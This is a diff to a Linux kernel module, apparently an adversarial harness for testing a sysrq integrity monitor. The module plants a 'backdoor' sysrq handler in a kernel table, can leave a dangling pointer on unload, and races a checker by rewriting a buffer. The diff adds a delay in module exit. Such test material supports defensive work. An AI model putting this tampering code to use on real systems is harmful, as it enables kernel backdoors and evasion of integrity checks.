@@ -11,7 +11,9 @@
  *   act=rawmask mask=N addr=A  write N to the mask at A (sysrq_enabled)
  *   act=rawkey key=C addr=A    put the backdoor in slot C of the table at A
  *                              (leave=1: and leave it there when unloaded, a
- *                              pointer into freed memory)
+ *                              pointer into freed memory; linger=MS: put it
+ *                              back, then stay MS in exit, before the GOING
+ *                              notifier)
  *   act=flip key=C comm=NAME   rewrite a task's one-byte buffer to C right
  *                              after a checker read it
  *   act=ipmodify sym=NAME      hold NAME with an IPMODIFY ftrace_ops, as a
@@ -23,6 +25,7 @@
  * (sysrqmon's write-time check), the byte becomes C before the kernel reads
  * it again, exactly inside the window a racing thread hits only sometimes.
  */
+#include <linux/delay.h>
 #include <linux/ftrace.h>
 #include <linux/kprobes.h>
 #include <linux/module.h>
@@ -45,6 +48,9 @@ MODULE_PARM_DESC(addr, "kernel address for rawmask and rawkey (from /proc/kallsy
 static bool leave;
 module_param(leave, bool, 0444);
 MODULE_PARM_DESC(leave, "rawkey: do not put the slot back on unload");
+static unsigned int linger;
+module_param(linger, uint, 0444);
+MODULE_PARM_DESC(linger, "rawkey: ms to stay in exit after putting the slot back");
 static char *comm = "";
 module_param(comm, charp, 0444);
 MODULE_PARM_DESC(comm, "task name whose buffer flip rewrites");
@@ -179,8 +185,11 @@ static void __exit sysrqevil_exit(void)
 {
 	if (registered)
 		unregister_sysrq_key(key[0], &backdoor_op);
-	if (raw_slot && !leave && READ_ONCE(*raw_slot) == &backdoor_op)
+	if (raw_slot && !leave && READ_ONCE(*raw_slot) == &backdoor_op) {
 		WRITE_ONCE(*raw_slot, raw_saved);
+		/* Still GOING, the notifier not yet called: a drift check may run. */
+		msleep(linger);
+	}
 	if (flip_armed)
 		unregister_kretprobe(&flip_probe);
 	if (holding) {
